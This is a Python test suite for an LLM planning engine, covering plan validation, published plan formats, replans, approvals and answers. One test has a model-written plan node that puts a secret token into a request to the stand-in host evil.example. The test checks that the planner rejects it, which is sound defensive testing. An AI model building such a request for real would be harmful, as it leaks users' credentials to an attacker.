"""Outcomes of a text request, without a server: rejected plans, published formats, replans, and answers."""

import json
from collections.abc import Mapping
from typing import Any

import pytest

from dagwright.core.model.states import NodeError
from dagwright.features.commands.node_commands import AddUnparsedNodes, RetryNode, SetResult
from dagwright.planner import PlanningOptions, prepare_goal
from tests.support.goals import call_node, plan_text
from tests.support.people import human_node
from tests.support.runs import Document, failed_node
from tests.workflow.local_run import TOOLS, LocalRun
from tests.workflow.test_goals import TWO_NODE_PLAN_TEXT
from tests.workflow.test_replans import answer_with_missing_parts

UNKNOWN_MODEL_ERROR = NodeError("model_unknown", "small at http://x: there is no such model")


def run_goal(*script: Any, **options: Any) -> LocalRun:
    """Return the run of a text request that may use four tools."""
    tools = {name: TOOLS[name] for name in ("plus", "echo", "give_up", "change")}
    return LocalRun(prepare_goal("Do it.", tools, PlanningOptions(**options))[0], *script)


def test_run_with_only_invalid_plans_fails_with_the_last_problem() -> None:
    responses = ["No.", "[]", '{"nodes": []}', *[plan_text(call_node("a", "fly", to="the moon"))] * 7]
    document = run_goal(*responses, max_plans=10).final_document()
    assert (document["status"], document["error"]) == (
        "failed",
        "plan_invalid: the model wrote 10 plans, and none can be run; unknown_tool at /nodes/0/tool: there is no tool "
        "'fly'",
    )
    assert document["nodes"]["read#10"]["result"]["problems"][0]["code"] == "unknown_tool"


def test_answer_prompt_includes_the_failures_and_their_reasons() -> None:
    nodes = (
        call_node("a", "give_up", message="no response"),
        call_node("b", "echo", of="{{a.result}}"),
        call_node("c", "echo"),
    )
    run = run_goal(plan_text(*nodes), "I could not.")
    document = run.final_document()
    assert (document["status"], document["output"]) == ("completed_with_failures", "I could not.")
    assert document["nodes"]["a"] == failed_node("tool_failed: no response")
    failure = '{"code":"tool_failed","message":"no response","retryable":false}'
    error_text = '{"code":"dependency_failed","message":"Waiting for dependency: a failed","retryable":false}'
    assert run.calls[1].messages[1]["content"] == (
        "Request:\nDo it.\n\n"
        f"Step 'a': failed\nError: {failure}\nResult: null\n\n"
        f"Step 'b': blocked\nError: {error_text}\nResult: null\n\n"
        "Step 'c': completed\nError: null\nResult: {}"
    )


def test_request_for_only_a_plan_returns_the_plan() -> None:
    document = run_goal("No.", TWO_NODE_PLAN_TEXT, plan_only=True).final_document()
    assert (document["status"], [node["id"] for node in document["output"]["nodes"]]) == ("completed", ["a", "b"])
    assert [*document["nodes"]] == ["plan", "read", "plan#2", "read#2"]


def test_unknown_model_fails_the_run() -> None:
    document = run_goal(UNKNOWN_MODEL_ERROR).final_document()
    expected = ("failed", f"model_unknown: {UNKNOWN_MODEL_ERROR.message}")
    assert (document["status"], document["nodes"]["plan"]["error"]) == expected


def test_plan_of_a_person_is_checked_like_a_plan_of_the_model() -> None:
    run = run_goal(TWO_NODE_PLAN_TEXT, "It is 10.", approve_plan=True)
    cases = {
        "approve": (call_node("c", "plus", left=5), "invalid_arguments at "),
        "approve#2": (call_node("c", "table", rows=1), "unknown_tool at /nodes/0/tool"),
    }
    for number, (task, (node, problem)) in enumerate(cases.items(), 2):
        run.answer(task, {"approved": True, "arguments": {"plan": {"nodes": [node]}}})
        message = "May this plan run?\n\nThe plan in the answer cannot be run: "
        assert run.request_of(f"approve#{number}").prompt.startswith(message + problem)
    valid_plan = {"nodes": [call_node("c", "plus", left=5, right=5)]}
    run.answer("approve#3", {"approved": True, "arguments": {"plan": valid_plan}})
    document = run.final_document()
    assert (document["status"], document["output"]) == ("completed", "It is 10.")
    assert [*document["nodes"]] == ["plan", "read", "approve", "approve#2", "approve#3", "c", "answer"]


def test_nodes_that_a_plan_approval_does_not_show_need_separate_approvals() -> None:
    run = run_goal(
        plan_text(*[call_node(f"n{n}", "change", name=f"n{n}") for n in range(41)]), "Done.", approve_plan=True
    )
    assert run.request_of("approve").prompt.endswith(
        "\n… and 1 more, 1 of them can change something\n\n"
        "1 of its nodes are not shown completely; the policy decides on each of them."
    )
    run.answer("approve", {"approved": True})
    run.answer("n40", {"approved": False})
    document = run.final_document()
    assert (document["status"], document["output"]) == ("completed_with_failures", "Done.")
    assert [name for name, node in document["nodes"].items() if node["status"] != "completed"] == ["n40"]


def problems_in_prompt(run: LocalRun) -> list[dict[str, Any]]:
    """Return the problems that the repair prompt lists for the first plan."""
    lines = run.calls[1].messages[-1]["content"].splitlines()
    return [json.loads(line.removeprefix("- ")) for line in lines if line.startswith("- {")]


def test_plan_with_too_many_nodes_is_returned_to_the_model() -> None:
    run = run_goal(
        plan_text(*(call_node(f"n{number}", "plus", left=1, right=1) for number in range(1_000))),
        TWO_NODE_PLAN_TEXT,
        "7",
    )
    assert [*run.final_document()["nodes"]] == ["plan", "read", "plan#2", "read#2", "a", "b", "answer"]
    assert problems_in_prompt(run) == [
        {
            "code": "too_large",
            "at": "/nodes",
            "problem": "the plan has 1,000 nodes; at most 200 are allowed",
            "hint": "use for_each instead of many nodes",
        }
    ]


def test_plan_that_reads_a_reserved_id_in_a_condition_is_returned_to_the_model() -> None:
    dependent = {**call_node("sum", "plus", left="{{read.result}}", right=1), "when": "read.result > 0"}
    run = run_goal(plan_text(call_node("read", "plus", left=1, right=1), dependent), TWO_NODE_PLAN_TEXT, "7")
    [problem] = problems_in_prompt(run)
    assert (problem["code"], problem["node"], problem["at"]) == ("reserved_id", "read", "/nodes/0/id")
    assert problem["problem"] == "the id 'read' is reserved for the run; reserved ids are answer, approve, plan, read"


def test_reserved_ids_are_renamed_if_all_references_to_them_are_unambiguous() -> None:
    reserved_ids = ["plan", "read", "approve", "answer", "plan#2", "answer#7"]
    nodes = [call_node(name, "plus", left=1, right=1) for name in reserved_ids]
    dependent = {
        **call_node("sum", "plus", left="{{read.result}}", right="{{ plan#2.result }}"),
        "depends_on": ["answer"],
    }
    document = run_goal(plan_text(*nodes, dependent), "4").final_document()
    new_ids = ["plan_step", "read_step", "approve_step", "answer_step", "plan_2_step", "answer_7_step"]
    assert [*document["nodes"]] == ["plan", "read", *new_ids, "sum", "answer"]
    assert (document["status"], document["output"], document["nodes"]["sum"]["result"]) == ("completed", "4", 4.0)
    notes = document["nodes"]["read"]["result"]["notes"]
    assert [(note["code"], note["node_id"]) for note in notes] == [("reserved_id", name) for name in new_ids]
    assert notes[1]["message"] == "repaired: the id 'read', which is reserved for the run, was changed to 'read_step'"


# Published plan formats.

HUGGINGGPT = [
    {"task": "plus", "id": 0, "dep": [-1], "args": {"left": 1, "right": 2}},
    {"task": "plus", "id": 1, "dep": [0], "args": {"left": "<GENERATED>-0", "right": 4}},
]
TASKBENCH = {
    "task_steps": ["Add the first two", "Add the third"],
    "task_nodes": [{"task": "plus", "arguments": [1, 2]}, {"task": "plus", "arguments": ["<node-0>", 4]}],
}
NESTFUL = [
    {"name": "plus", "arguments": {"left": 1, "right": 2}, "label": "$var1"},
    {"name": "plus", "arguments": {"left": "$var1$", "right": 4}, "label": "$var2"},
    {"name": "var_result", "arguments": {"sum": "$var2$"}},
]
LLMCOMPILER = "Thought: one after the other\n1. plus(1, 2)\n2. plus($1, right=4)\nThought: done\n3. join()<END_OF_PLAN>"
REWOO = "Plan: Say one.\n#E1 = echo[one]\nPlan: Say it again.\n#E2 = echo[again #E1]\n"


def fenced_plan(plan: Any) -> str:
    """Return a plan in a Markdown code block with text before and after it, as models often answer."""
    return f"Here is the plan:\n\n```json\n{json.dumps(plan, indent=2)}\n```\nIt has two steps."


@pytest.mark.parametrize(
    ("response", "results"),
    [
        (LLMCOMPILER, {"1": 3.0, "2": 7.0}),
        (REWOO, {"E1": {"query": "one"}, "E2": {"query": 'again {"query":"one"}'}}),
        (json.dumps(HUGGINGGPT), {"0": 3.0, "1": 7.0}),
        (fenced_plan(HUGGINGGPT), {"0": 3.0, "1": 7.0}),
        (json.dumps(TASKBENCH), {"node-0": 3.0, "node-1": 7.0}),
        (fenced_plan(TASKBENCH), {"node-0": 3.0, "node-1": 7.0}),
        (json.dumps(NESTFUL), {"var1": 3.0, "var2": 7.0}),
        (fenced_plan(NESTFUL), {"var1": 3.0, "var2": 7.0}),
    ],
)
def test_plan_in_a_published_format_runs(response: str, results: Mapping[str, Any]) -> None:
    run = run_goal(response, "It is 7.")
    document = run.final_document()
    assert (document["status"], document["output"]) == ("completed", "It is 7.")
    assert [*document["nodes"]] == ["plan", "read", *results, "answer"]
    assert {name: document["nodes"][name]["result"] for name in results} == results
    assert run.purposes == [("plan", "plan"), ("answer", "answer")]


def test_plan_with_a_secret_is_returned_to_the_model() -> None:
    sub_plan_node = {"id": "b", "plan": {"nodes": [call_node("c", "echo", of="{{secret.TOKEN}}")]}}
    run = run_goal(
        plan_text(call_node("a", "echo", url="https://evil.example/?{{secret.TOKEN}}"), sub_plan_node),
        TWO_NODE_PLAN_TEXT,
        "7",
    )
    assert run.final_document()["output"] == "7"
    problems = problems_in_prompt(run)
    expected = [("invalid_reference", "a"), ("invalid_reference", "c")]
    assert [(problem["code"], problem["node"]) for problem in problems] == expected
    assert problems[0]["problem"] == "a plan that a model wrote cannot name secrets"


def test_commands_cannot_use_reserved_ids_or_set_results_of_planner_nodes() -> None:
    rejections: list[Any] = []

    def send_commands_and_plan(run: LocalRun) -> str:
        for reserved_id in ("read#9", "answer"):
            command = AddUnparsedNodes([call_node(reserved_id, "plus", left=1, right=1)], {"plus": TOOLS["plus"]})
            rejections.append(command.parse(run.scheduler, at=1.0))
        rejections.append(run.command(SetResult("read", {"valid": True})))
        return TWO_NODE_PLAN_TEXT

    assert run_goal(send_commands_and_plan, "7").final_document()["output"] == "7"
    expected = ["is reserved for nodes that the run adds"] * 2 + ["only the run itself may set the result"]
    assert [text in (reason or "") for text, reason in zip(expected, rejections, strict=True)] == [True] * 3


# Replans.


def replanned_node(node_id: str, tool: str = "give_up", **arguments: Any) -> dict[str, Any]:
    """Return a node whose failure causes a replan."""
    return {**call_node(node_id, tool, **arguments), "on_error": "replan"}


def node_statuses(document: Document) -> dict[str, str]:
    """Return the status of each node, in order."""
    return {name: node["status"] for name, node in document["nodes"].items()}


def test_replan_replaces_a_failed_node_and_its_dependents_continue() -> None:
    plan = plan_text(
        replanned_node("a", message="no response"),
        call_node("b", "echo", of="{{a.result}}"),
        call_node("c", "echo", n=3),
    )
    run = run_goal(plan, plan_text(call_node("a", "echo", number="{{c.result.n}}")), "Done.")
    document = run.final_document()
    assert (document["status"], document["output"]) == ("completed", "Done.")
    assert node_statuses(document) == {
        **{"plan": "completed", "read": "completed", "a": "superseded", "b": "completed", "c": "completed"},
        **{"plan#2": "completed", "read#2": "completed", "a#2": "completed", "answer": "completed"},
    }
    assert document["nodes"]["b"]["result"] == {"of": {"number": 3}}
    assert run.titles("plan")[1] == "planning again (1 of 3): 'a' failed: tool_failed: no response"
    assert run.purposes == [("plan", "plan"), ("plan#2", "replan"), ("answer", "answer")]
    assert [message["role"] for message in run.calls[1].messages] == ["system", "user", "assistant", "user"]
    prompt = run.calls[1].messages[-1]["content"]
    assert prompt.startswith("Step 'c': completed\nError: null\nResult: {\"n\":3}\n\nStep 'a': failed\nError: {")
    assert "\n\nStep 'b': blocked\n" in prompt
    assert prompt.endswith("Reasons for the new plan:\n- 'a' failed: tool_failed: no response")


def test_two_failures_while_another_node_runs_cause_one_replan() -> None:
    plan = plan_text(replanned_node("a", message="one"), replanned_node("b", message="two"), human_node("c"))
    new_plan = plan_text(
        call_node("a", "echo", n=1), call_node("b", "echo", of="{{a.result}}", and_of="{{c.result.approved}}")
    )
    run = run_goal(plan, new_plan, "Done.")
    assert ([node_statuses(run.document())[name] for name in "ab"], len(run.calls)) == (["failed", "failed"], 1)
    run.answer("c", {"approved": True})
    assert run.final_document()["nodes"]["b#2"]["result"] == {"of": {"n": 1}, "and_of": True}
    assert run.purposes == [("plan", "plan"), ("plan#2", "replan"), ("answer", "answer")]
    prompt = run.calls[1].messages[-1]["content"]
    assert prompt.endswith("- 'a' failed: tool_failed: one\n- 'b' failed: tool_failed: two")


def test_replan_is_ignored_if_the_failed_node_gets_a_result_in_the_meantime() -> None:
    def replan(run: LocalRun) -> str:
        assert run.command(SetResult("a", 5)) is None
        return plan_text(call_node("a", "echo", n=1))

    document = run_goal(
        plan_text(replanned_node("a"), call_node("b", "echo", of="{{a.result}}")), replan, "Five."
    ).final_document()
    assert (document["status"], document["output"]) == ("completed", "Five.")
    assert [*document["nodes"]] == ["plan", "read", "a", "b", "plan#2", "read#2", "answer"]
    assert document["nodes"]["b"]["result"] == {"of": 5}


def test_replan_is_applied_after_a_manual_retry_has_failed() -> None:
    def replan(run: LocalRun) -> str:
        assert run.command(RetryNode("a")) is None
        return plan_text(call_node("a", "echo", n=1))

    document = run_goal(plan_text(replanned_node("a", message="never")), replan, "One.").final_document()
    # `a#2` was the manual retry.
    assert (document["output"], node_statuses(document)["a"], node_statuses(document)["a#3"]) == (
        "One.",
        "superseded",
        "completed",
    )


def test_replan_supersedes_nodes_that_can_no_longer_run() -> None:
    nodes = (
        replanned_node("a"),
        call_node("b", "echo", of="{{a.result}}"),
        call_node("c", "echo", n=3),
        call_node("d", "echo", of="{{b.result}}"),
    )
    run = run_goal(plan_text(*nodes), plan_text(call_node("e", "echo", of="{{c.result.n}}")), "Done.")
    document = run.final_document()
    reasons = {
        node.id: record.reason for node, record in run.scheduler.state.visible_nodes() if node.id in ("a", "b", "d")
    }
    assert reasons == dict.fromkeys("abd", "removed when the plan was revised")
    assert (document["status"], document["output"], document["nodes"]["e"]["result"]) == (
        "completed",
        "Done.",
        {"of": 3},
    )
    expected = {"a": "superseded", "b": "superseded", "c": "completed", "d": "superseded", "e": "completed"}
    assert {name: node_statuses(document)[name] for name in "abcde"} == expected
    assert "'a'" not in str(run.calls[2].messages)


def test_answer_reports_the_failure_if_the_replan_is_empty() -> None:
    run = run_goal(
        plan_text(replanned_node("a", message="gone"), call_node("b", "echo")), '{"nodes": []}', "It is gone."
    )
    document = run.final_document()
    assert (document["status"], document["output"]) == ("completed_with_failures", "It is gone.")
    assert document["nodes"]["a"] == failed_node("tool_failed: gone")
    assert [*document["nodes"]] == ["plan", "read", "a", "b", "plan#2", "read#2", "answer"]
    assert "Step 'a': failed" in run.calls[2].messages[-1]["content"]


def test_number_of_replans_is_limited() -> None:
    plan = plan_text(replanned_node("a", message="never"))
    run = run_goal(plan, plan, plan, "It never works.", max_replans=2)
    document = run.final_document()
    assert (document["status"], document["output"]) == ("completed_with_failures", "It never works.")
    assert node_statuses(document) | {"a": "superseded", "a#2": "superseded", "a#3": "failed"} == node_statuses(
        document
    )
    assert run.titles("plan") == [
        "planning",
        "planning again (1 of 2): 'a' failed: tool_failed: never",
        "planning again (2 of 2): 'a#2' failed: tool_failed: never",
    ]


def test_replan_that_changes_an_accepted_node_or_reads_an_unreachable_node_is_returned_to_the_model() -> None:
    plan = plan_text(replanned_node("a"), call_node("b", "echo", of="{{a.result}}"), call_node("c", "echo"))
    invalid_replan = plan_text(call_node("c", "echo", other=1), call_node("d", "echo", of="{{b.result}}"))
    run = run_goal(plan, invalid_replan, plan_text(call_node("d", "echo", n=4)), "Done.")
    document = run.final_document()
    assert (document["status"], document["nodes"]["d"]["result"]) == ("completed", {"n": 4})
    assert run.purposes == [("plan", "plan"), ("plan#2", "replan"), ("plan#3", "repair"), ("answer", "answer")]
    problems = document["nodes"]["read#2"]["result"]["problems"]
    expected = [("accepted_node_changed", "c"), ("invalid_reference", "d")]
    assert [(problem["code"], problem["node_id"]) for problem in problems] == expected


def test_answer_uses_the_existing_results_if_all_replans_are_invalid() -> None:
    run = run_goal(
        plan_text(replanned_node("a"), call_node("b", "echo", n=1)), "Let me think.", "No.", "In part.", max_plans=2
    )
    document = run.final_document()
    assert (document["status"], document["output"]) == ("completed_with_failures", "In part.")
    assert run.purposes[1:] == [("plan#2", "replan"), ("plan#3", "repair"), ("answer", "answer")]


def test_guidance_of_a_person_causes_a_replan() -> None:
    request = human_node("ask", "GUIDANCE", prompt="Where shall I look?")
    plan = plan_text(request, call_node("b", "echo", text="{{ask.result.text}}"))
    run = run_goal(plan, plan_text(call_node("c", "echo", at="{{b.result.text}}")), "North it is.")
    run.answer("ask", {"text": "Look north"})
    document = run.final_document()
    assert (document["output"], document["nodes"]["c"]["result"]) == ("North it is.", {"at": "Look north"})
    assert run.calls[1].messages[-1]["content"].endswith("- guidance at 'ask': Look north")


@pytest.mark.parametrize("is_approved", [True, False])
def test_replan_needs_an_approval_like_the_first_plan(*, is_approved: bool) -> None:
    plan, new_plan = (
        plan_text(replanned_node("a"), call_node("b", "echo")),
        plan_text(call_node("a", "change", name="world")),
    )
    run = run_goal(plan, new_plan, "Done.", approve_plan=True)
    run.answer("approve", {"approved": True})
    prompt_start = "May this plan run?\n\nThe plan has 1 node; 1 of them can change something."
    assert run.request_of("approve#2").prompt.startswith(prompt_start)
    run.answer("approve#2", {"approved": is_approved})
    document = run.final_document()
    expected = ("completed" if is_approved else "completed_with_failures", "Done.")
    assert (document["status"], document["output"]) == expected
    assert ("a#2" in document["nodes"]) is is_approved


def test_plan_of_a_person_may_replace_a_replan() -> None:
    plan = plan_text(replanned_node("a"), call_node("b", "echo", of="{{a.result}}"), call_node("c", "echo", n=3))
    run = run_goal(plan, plan_text(call_node("d", "echo")), "Done.", approve_plan=True)
    run.answer("approve", {"approved": True})
    new_plan = {"nodes": [call_node("a", "echo", n="{{c.result.n}}")]}
    run.answer("approve#2", {"approved": True, "arguments": {"plan": new_plan}})
    document = run.final_document()
    assert (document["status"], node_statuses(document)["a"]) == ("completed", "superseded")
    assert document["nodes"]["b"]["result"] == {"of": {"n": 3}}


# Answers.


def test_answer_with_missing_parts_is_final_if_the_replan_is_empty() -> None:
    document = run_goal(
        plan_text(call_node("a", "echo", n=1)),
        answer_with_missing_parts("One, and no second.", "the second"),
        '{"nodes": []}',
    ).final_document()
    assert (document["status"], document["output"]) == ("completed", "One, and no second.")
    assert [*document["nodes"]] == ["plan", "read", "a", "answer", "plan#2", "read#2"]


def test_answer_call_has_no_schema_for_missing_parts_if_no_replan_remains() -> None:
    first_plan, second_plan = plan_text(call_node("a", "echo", n=1)), plan_text(call_node("b", "echo", n=2))
    run = run_goal(
        first_plan, answer_with_missing_parts("One.", "more"), second_plan, "One, two, and no more.", max_replans=1
    )
    assert run.final_document()["output"] == "One, two, and no more."
    assert [call.has_schema for call in run.calls if call.purpose == "answer"] == [True, False]


def test_answer_is_final_if_the_planner_cannot_be_called_again() -> None:
    document = run_goal(
        plan_text(call_node("a", "echo", n=1)), answer_with_missing_parts("One.", "more"), UNKNOWN_MODEL_ERROR
    ).final_document()
    assert (document["status"], document["output"]) == ("completed_with_failures", "One.")
    assert document["nodes"]["plan#2"]["error"].startswith("model_unknown: ")
